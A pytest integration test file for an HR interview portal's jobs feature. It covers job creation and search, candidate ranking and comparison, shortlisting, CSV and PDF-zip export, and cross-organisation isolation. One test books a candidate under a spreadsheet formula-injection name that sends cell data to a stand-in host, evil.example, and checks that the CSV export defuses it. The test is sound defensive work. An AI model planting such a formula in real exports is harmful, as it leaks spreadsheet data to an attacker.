"""Jobs (requisitions) in the portal: created, searched, booked for; their candidates ranked
from real kiosk interviews, compared, shortlisted and exported; nothing crosses organisations."""

from __future__ import annotations

import csv
import html
import io
import random
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.integration.hub.portal_support import SESSION_FORM, Browser, Portal, portal_hub
from tests.integration.hub.support import (
    SimulatedKiosk,
    memory_keyring,
    rescored,
    run_interview,
    serve_in_thread,
)

from hub.app import create_app
from hub.uow import UnitOfWork
from kiosk.settings import KioskSettings
from kiosk.sync import Pusher, enrol, hub_client, import_pack

JOB_FORM = {
    "title": "Data engineer",
    "description": "Build and run the data pipelines.",
    "required_skills": "python, sql, airflow",
    "question_count": "2",
    "seconds_per_question": "90",
}


@pytest.fixture
def portal(tmp_path: Path, database_url: str) -> Iterator[Portal]:
    with portal_hub(tmp_path / "hub", database_url) as portal:
        yield portal


def create_job(browser: Browser, **fields: str) -> str:
    response = browser.post("/jobs/new", {**JOB_FORM, **fields}, page="/jobs/new")
    assert response.status_code == 303, response.text
    return response.headers["location"].split("/")[2]


def book(browser: Browser, job_id: str, name: str) -> str:
    """HR books a session for the job; the job's fields win over what the form carries."""
    form = {**SESSION_FORM, "candidate_name": name, "job_id": job_id}
    response = browser.post("/sessions/new", form, page="/sessions/new")
    assert response.status_code == 303, response.text
    return response.headers["location"].split("/")[2]


def run_on_kiosk(portal: Portal, browser: Browser, tmp_path: Path, session_id: str,
                 before_push: object) -> None:
    """A real kiosk pulls the session's pack, runs the interview and pushes it to the hub."""
    slip = browser.http.get(f"/sessions/{session_id}/slip").text
    key = re.search(r'id="session-key">([^<]+)<', slip)
    assert key is not None
    with serve_in_thread(create_app(hub=portal.hub)) as url, memory_keyring():
        enrol(url, portal.hub.enrolment.issue_code(portal.acme, "t").code, "desk")
        kiosk = SimulatedKiosk.create(tmp_path)
        with hub_client(KioskSettings(data_dir=tmp_path, hub_url=url)) as client:
            local = import_pack(kiosk.service, client.pack(key.group(1)), portal.clock.now).session
            run_interview(kiosk.service, local.session_id, rng=random.Random(9))
            before_push(kiosk.service, local.session_id)  # type: ignore[operator]
            Pusher(kiosk.service, client).drain()
        kiosk.close()


def ranked_names(page: str) -> list[str]:
    body = page.split('class="ranking', 1)[1]
    return [html.unescape(n) for n in re.findall(r'<a href="/sessions/[^"]+">([^<]+)</a>', body)]


def audit_actions(portal: Portal) -> list[tuple[str, str]]:
    with UnitOfWork(portal.hub.database) as uow:
        return [(e.action, e.target) for e in uow.audit.recent(portal.acme, 500)]


def test_a_jobs_candidates_are_ranked_compared_shortlisted_and_exported(
    portal: Portal, tmp_path: Path
) -> None:
    hr = portal.browser("hr@acme.test")
    job_id = create_job(hr)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    scores = {"Grace Hopper": 8.0, evil: 4.0, "Alan Turing": 6.0}
    ids = {}
    for n, (name, mean) in enumerate(scores.items()):
        ids[name] = book(hr, job_id, name)
        reason = f"{name.split()[0]} explained the trade-offs"
        run_on_kiosk(portal, hr, tmp_path / f"kiosk{n}", ids[name], rescored(mean, reason))
    waiting = book(hr, job_id, "Not Yet Started")

    # the job's fields flowed into the session exactly as typed ones would
    with UnitOfWork(portal.hub.database) as uow:
        row = uow.sessions.get(waiting)
        assert row is not None
        assert (row.job_id, row.job_title, row.job_text) == (
            job_id, "Data engineer", "Build and run the data pipelines."
        )
        assert row.required_skills == ["python", "sql", "airflow"]
        assert row.settings["question_count"] == 2 and row.settings["seconds_per_question"] == 90

    grace = f"/sessions/{ids['Grace Hopper']}"
    decided = hr.post(f"{grace}/decisions", {"outcome": "advance", "notes": "Clear"}, page=grace)
    assert decided.status_code == 303
    page = hr.http.get(f"/jobs/{job_id}").text
    assert page.count("Advance to next round") == 1 and "No decision yet" in page
    assert ranked_names(page) == ["Grace Hopper", "Alan Turing", evil, "Not Yet Started"]
    # depth is 0.5 above the other three criteria: overall = mean + 0.125
    assert "8.1 / 10" in page and "6.1 / 10" in page and "not scored yet" in page
    assert "Recommend" in page and "Do not recommend" in page
    assert "1 of 1 flags to review" in page  # run_interview records one flag, not reviewed
    assert "strong_yes" not in page and ">yes<" not in page
    by_name = ranked_names(hr.http.get(f"/jobs/{job_id}?sort=name").text)
    assert by_name == sorted(by_name, key=str.lower)

    # compare two: criteria as rows, candidates as columns, with each criterion's reason
    compare = hr.http.get(
        f"/jobs/{job_id}/compare", params=[("s", ids["Alan Turing"]), ("s", ids["Grace Hopper"])]
    )
    assert compare.status_code == 200
    header = re.findall(r'<th scope="col" data-session="([^"]+)"', compare.text)
    assert header == [ids["Alan Turing"], ids["Grace Hopper"]]
    depth = compare.text.split('<th scope="row">Depth</th>', 1)[1].split("</tr>", 1)[0]
    assert "6.5 / 10" in depth and "8.5 / 10" in depth
    assert "Alan explained the trade-offs" in depth and "Grace explained the trade-offs" in depth
    one = hr.http.get(f"/jobs/{job_id}/compare", params=[("s", ids["Alan Turing"])])
    assert one.status_code == 422 and "Tick 2 or 3 candidates" in one.text

    # shortlist: added, shown, filtered, removed; each change audited
    for name in ("Alan Turing", "Grace Hopper"):
        added = hr.post(f"/jobs/{job_id}/shortlist", {"session_id": ids[name], "add": "yes"},
                        page=f"/jobs/{job_id}")
        assert added.status_code == 303
    removed = hr.post(f"/jobs/{job_id}/shortlist",
                      {"session_id": ids["Grace Hopper"], "add": "no"}, page=f"/jobs/{job_id}")
    assert removed.status_code == 303
    assert ranked_names(hr.http.get(f"/jobs/{job_id}?shortlisted=true").text) == ["Alan Turing"]
    actions = audit_actions(portal)
    assert actions.count(("job.shortlisted", _key(portal, ids["Grace Hopper"]))) == 1
    assert ("job.unshortlisted", _key(portal, ids["Grace Hopper"])) in actions

    # CSV: one row per session in rank order, per-criterion columns, formulas defused
    export = hr.http.get(f"/jobs/{job_id}/candidates.csv")
    assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert [r["Candidate"] for r in rows] == [
        "Grace Hopper", "Alan Turing", "'" + evil, "Not Yet Started"
    ]
    assert rows[0]["Overall score (out of 10)"] == "8.1"
    assert rows[0]["Depth (out of 10)"] == "8.5" and rows[0]["Relevance (out of 10)"] == "8.0"
    assert rows[1]["Shortlisted"] == "yes" and rows[0]["Shortlisted"] == "no"
    assert rows[0]["Decision"] == "Advance to next round"
    assert rows[1]["Decision"] == "No decision yet"
    assert rows[3]["Overall score (out of 10)"] == ""
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())

    # zip: the three interviews that have a report, each a PDF
    archive = hr.http.get(f"/jobs/{job_id}/reports.zip")
    assert archive.status_code == 200
    with zipfile.ZipFile(io.BytesIO(archive.content)) as opened:
        names = opened.namelist()
        assert len(names) == 3 and all(n.endswith(".pdf") for n in names)
        assert any(n.startswith("Grace-Hopper-") for n in names)
        assert all(opened.read(n).startswith(b"%PDF") for n in names)
    exported = [a for a in audit_actions(portal) if a[0] == "job.exported"]
    assert len(exported) == 2


def _key(portal: Portal, session_id: str) -> str:
    with UnitOfWork(portal.hub.database) as uow:
        row = uow.sessions.get(session_id)
        assert row is not None
        return row.session_key


def test_jobs_are_created_edited_searched_paged_and_closed(portal: Portal) -> None:
    hr = portal.browser("hr@acme.test")
    for n in range(27):
        create_job(hr, title=f"Role {n:02d}")
    pipeline = create_job(hr, title="Pipeline engineer", description="Kafka streams all day")
    listed = hr.http.get("/jobs").text
    assert "28 jobs" in listed and "page 1 of 2" in listed
    second = hr.http.get("/jobs?page=2").text
    assert len(re.findall(r"data-job=", listed)) + len(re.findall(r"data-job=", second)) == 28
    found = hr.http.get("/jobs", params={"q": "kafka"}).text
    assert "1 jobs" in found and "Pipeline engineer" in found and "Role 01" not in found

    refused = hr.post("/jobs/new", {**JOB_FORM, "title": " ", "question_count": "99"},
                      page="/jobs/new")
    assert refused.status_code == 422
    assert 'id="error-title"' in refused.text and 'id="error-question_count"' in refused.text
    assert "Choose between 1 and 50 questions" in refused.text

    edited = hr.post(f"/jobs/{pipeline}/edit", {**JOB_FORM, "title": "Streaming engineer"},
                     page=f"/jobs/{pipeline}/edit")
    assert edited.status_code == 303
    assert "Streaming engineer" in hr.http.get(f"/jobs/{pipeline}").text

    assert pipeline in hr.http.get("/sessions/new").text  # the picker offers the open job
    closed = hr.post(f"/jobs/{pipeline}/close", {"closed": "yes"}, page=f"/jobs/{pipeline}")
    assert closed.status_code == 303
    assert pipeline not in hr.http.get("/sessions/new").text
    late = hr.post("/sessions/new", {**SESSION_FORM, "job_id": pipeline}, page="/sessions/new")
    assert late.status_code == 422 and "is closed" in late.text
    assert "Open jobs only" in hr.http.get("/jobs?open=true").text
    assert "Streaming engineer" not in hr.http.get("/jobs?open=true").text
    assert ("job.closed", "Streaming engineer") in audit_actions(portal)
    assert ("job.edited", "Streaming engineer") in audit_actions(portal)


def test_a_description_file_is_read_like_a_resume(portal: Portal) -> None:
    from reportlab.pdfgen import canvas

    pdf = io.BytesIO()
    drawing = canvas.Canvas(pdf)
    drawing.drawString(72, 720, "We need a Rust developer for embedded firmware.")
    drawing.save()
    hr = portal.browser("hr@acme.test")
    response = hr.post(
        "/jobs/new", {**JOB_FORM, "description": ""}, page="/jobs/new",
        files={"description_file": ("role.pdf", pdf.getvalue(), "application/pdf")},
    )
    assert response.status_code == 303
    page = hr.http.get(response.headers["location"]).text
    assert "Rust developer for embedded firmware" in page
    bad = hr.post("/jobs/new", JOB_FORM, page="/jobs/new",
                  files={"description_file": ("role.pdf", b"not a pdf at all", "application/pdf")})
    assert bad.status_code == 422 and 'id="error-description_file"' in bad.text


def test_another_organisation_never_sees_or_changes_a_job(portal: Portal) -> None:
    acme = portal.browser("hr@acme.test")
    job_id = create_job(acme)
    session_id = book(acme, job_id, "Ada Lovelace")
    globex = portal.browser("hr@globex.test")
    for path in ("", "/edit", "/candidates.csv", "/reports.zip"):
        assert globex.http.get(f"/jobs/{job_id}{path}").status_code == 404, path
    compare = globex.http.get(f"/jobs/{job_id}/compare", params=[("s", session_id)] * 2)
    assert compare.status_code == 404
    for path, form in (
        ("/edit", JOB_FORM),
        ("/close", {"closed": "yes"}),
        ("/shortlist", {"session_id": session_id, "add": "yes"}),
    ):
        assert globex.post(f"/jobs/{job_id}{path}", form).status_code == 404, path
    booked = globex.post("/sessions/new", {**SESSION_FORM, "job_id": job_id}, page="/sessions/new")
    assert booked.status_code == 422
    assert "Data engineer" not in globex.http.get("/jobs").text
    # Globex's own job cannot shortlist Acme's candidate either
    theirs = create_job(globex, title="Globex role")
    stolen = globex.post(f"/jobs/{theirs}/shortlist", {"session_id": session_id, "add": "yes"},
                         page=f"/jobs/{theirs}")
    assert stolen.status_code == 404
    with UnitOfWork(portal.hub.database) as uow:
        assert uow.jobs.shortlisted(theirs) == set()
        assert not [e for e in uow.audit.recent(portal.globex, 50) if e.action.startswith("job.s")]


def test_an_invigilator_may_not_see_jobs(portal: Portal) -> None:
    door = portal.browser("door@acme.test")
    assert door.http.get("/jobs").status_code == 403
